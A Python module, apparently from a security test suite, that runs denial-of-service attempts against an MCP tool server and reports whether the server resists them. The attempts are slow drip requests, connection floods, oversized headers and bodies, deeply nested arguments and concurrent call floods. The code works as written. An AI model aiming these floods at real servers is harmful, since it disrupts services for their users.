"""Denial of service: too much time, too many bytes, connections and calls."""

from __future__ import annotations

import contextlib
import select
import socket
import time
from collections.abc import Callable, Mapping
from concurrent.futures import ThreadPoolExecutor
from functools import partial
from typing import Any

from quarterturn_attacks.agents.raw_client import (
    HOST,
    calling,
    dial,
    honest,
    post,
    request,
    send,
    slow_query,
    solving,
    status,
)

MIB = 1 << 20
CONCURRENT_CALLS, THOUSAND = 40, 1000
SLOWLY = 18.0
ROWS = 6_000_000


def drip(beginning: str) -> dict[str, Any]:
    """Begin many requests and go on a byte a second; say how many were cut off, and whether others were served."""
    held = []
    for _ in range(CONCURRENT_CALLS):
        with contextlib.suppress(OSError):
            held.append(dial())
            held[-1].sendall(beginning.encode())
    until = time.monotonic() + SLOWLY
    while held and time.monotonic() < until:
        time.sleep(1)
        held = [caller for caller in held if alive(caller)]
    served = honest()
    for caller in held:
        caller.close()
    return {"left": len(held), "served": served}


def alive(caller: socket.socket) -> bool:
    """Send one byte more, and say whether the other side still listens."""
    try:
        caller.sendall(b"x")
        ready, _, _ = select.select([caller], [], [], 0)
        return not ready or bool(caller.recv(65536))
    except OSError:
        return False


def connections() -> dict[str, Any]:
    """Open a thousand connections, each with half a request, and say how many stayed."""
    held = []
    for _ in range(THOUSAND):
        with contextlib.suppress(OSError):
            held.append(dial(1))
            held[-1].sendall(b"GET /task HTTP/1.1\r\n")
    time.sleep(1)
    left = sum(alive(caller) for caller in held)
    for caller in held:
        caller.close()
    time.sleep(1)
    return {"left": left, "served": honest()}


def huge_head() -> dict[str, Any]:
    """Send heads with one long line, with many lines, and with no end."""
    heads = [
        request("POST", "/mcp", solving(), f"X-Long: {'x' * MIB}"),
        request("POST", "/mcp", solving(), *[f"X-{number}: x" for number in range(20_000)]),
        b"POST /mcp HTTP/1.1\r\n" + b"x" * 8 * MIB,
        b"GET /" + b"x" * MIB + b" HTTP/1.1\r\n\r\n",
    ]
    return {"statuses": [status(send(head, 5)) for head in heads]}


def endless_body() -> dict[str, Any]:
    """Send chunks for as long as anybody takes them, and say how much was taken."""
    sent = 0
    with dial(5) as caller, contextlib.suppress(OSError):
        caller.sendall(request("POST", "/mcp", b"", "Transfer-Encoding: chunked"))
        while sent < 64 * MIB:
            caller.sendall(b"10000\r\n" + b"x" * 65536 + b"\r\n")
            sent += 65536
    return {"sent": sent, "served": honest()}


def huge_arguments() -> dict[str, Any]:
    """Call with arguments beyond the caps: long, and deep."""
    deep: Any = "heliotrope"
    for _ in range(50):
        deep = {"path": deep}
    calls = [calling("filesystem__write_file", path="/data/files/colour.txt", content="heliotrope", more=more)
             for more in ("x" * 300_000, deep)]  # fmt: skip
    return {"statuses": [post("/mcp", call) for call in calls]}


def unlisted() -> dict[str, Any]:
    """Call a tool that is not there, thousands of times."""
    body = calling("no__such_tool", x="x" * 1000)
    with ThreadPoolExecutor(8) as pool:
        statuses = list(pool.map(lambda _: quietly(body), range(2000)))
    return {"successes": statuses.count(200)}


def at_once() -> dict[str, Any]:
    """Make many calls at the same time."""
    body = calling("filesystem__list_allowed_directories")
    with ThreadPoolExecutor(CONCURRENT_CALLS) as pool:
        statuses = list(pool.map(lambda _: quietly(body), range(CONCURRENT_CALLS)))
    return {"successes": statuses.count(200)}


def held_bodies() -> dict[str, Any]:
    """Keep one call busy, and put thirty megabytes in the queue behind it."""
    slow = calling("sqlite__read_query", query=slow_query(ROWS))
    fat = calling("filesystem__write_file", path="/data/files/fat", content="\U0001f600" + "x" * (MIB - 1000))
    wide = b'{"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": "x", "arguments": {"x": ['
    wide += b"{}," * (MIB // 3 - 100) + b"0]}}}"
    with ThreadPoolExecutor(CONCURRENT_CALLS) as pool:
        first = pool.submit(quietly, slow)
        time.sleep(0.5)
        statuses = list(pool.map(quietly, [fat, wide] * 15))
        return {"slow": first.result(), "refused": statuses.count(503) + statuses.count(400) + statuses.count(0)}


def quietly(body: bytes) -> int:
    """Post, and take a connection that is cut for no answer."""
    try:
        return post("/mcp", body)
    except OSError:
        return 0


ATTEMPTS: Mapping[str, Callable[[], Mapping[str, Any]]] = {
    "slow-heads": partial(drip, "GET /task HTTP/1.1\r\nX-Slow: "),
    "slow-bodies": partial(drip, f"POST /mcp HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: 100000\r\n\r\n"),
    "slow-refused-bodies": partial(drip, "POST /mcp HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 100000\r\n\r\n"),
    "thousand-connections": connections,
    "huge-heads": huge_head,
    "endless-body": endless_body,
    "huge-arguments": huge_arguments,
    "unlisted-flood": unlisted,
    "calls-at-once": at_once,
    "held-bodies": held_bodies,
}
